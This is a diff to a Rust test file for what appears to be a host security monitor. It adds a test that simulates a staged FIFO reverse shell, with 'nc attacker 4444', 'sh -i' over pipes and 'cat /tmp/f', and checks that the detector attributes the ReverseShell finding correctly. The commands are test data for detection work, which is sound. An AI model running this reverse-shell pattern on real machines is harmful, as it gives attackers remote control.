@@ -1,7 +1,7 @@
 //! Attack shapes and their look-alikes.
 #![expect(clippy::unwrap_used, reason = "tests")]
 
-use crate::detect::testing::{A, Lab, kinds, open, origin, out, peer, pipe};
+use crate::detect::testing::{A, Lab, exec, kinds, open, origin, out, peer, pipe};
 use crate::event::{Body, ConnectOp, Form, Reason, Stdio, Verdict, file, state};
 use crate::finding::FindingKind::{ReverseShell, ShellConnect};
 use monitor_common::exec::EXEC_RELAY;
@@ -48,6 +48,35 @@ fn a_shell_refused_before_it_starts() {
     let found = lab.send(event);
     assert_eq!(kinds(&found), [ReverseShell]);
     assert_eq!(found[0].peer, Some(peer("203.0.113.66:80")));
+}
+
+/// On a loaded machine the reader of the FIFO gets its turn after nc has connected.
+#[test]
+fn a_stage_that_comes_last() {
+    for (reason, expected) in [(Reason::ReverseShell, &[ReverseShell][..]), (Reason::None, &[])] {
+        let staged = || {
+            let mut lab = Lab::new();
+            lab.exec(20, 9, &["nc", "attacker", "4444"]);
+            lab.exec_with(21, 9, &["sh", "-i"], |e| (e.stdio[0], e.stdio[1]) = (pipe(7), pipe(8)));
+            lab
+        };
+        let mut lab = staged();
+        lab.exec(22, 9, &["cat", "/tmp/f"]);
+        let mut fifo = open("/tmp/f", file::FILE_FIFO | file::FILE_TAINTED, 0);
+        fifo.origin = Some(origin(20));
+        let mut event = lab.event(22, Body::Open(Box::new(fifo)));
+        (event.reason, event.peer_tgid) = (reason, Some(21));
+        let found = lab.send(event);
+        assert_eq!(kinds(&found), expected);
+        assert!(found.iter().all(|d| d.culprit == Lab::key(21) && d.accomplices == [Lab::key(20), Lab::key(22)]));
+
+        let mut lab = staged();
+        let mut cat = exec(9, &["cat"]);
+        cat.origin = Some(origin(20));
+        let mut event = lab.event(22, Body::Exec(Box::new(cat)));
+        (event.reason, event.peer_tgid) = (reason, Some(21));
+        assert_eq!(kinds(&lab.send(event)), expected);
+    }
 }
 
 #[test]
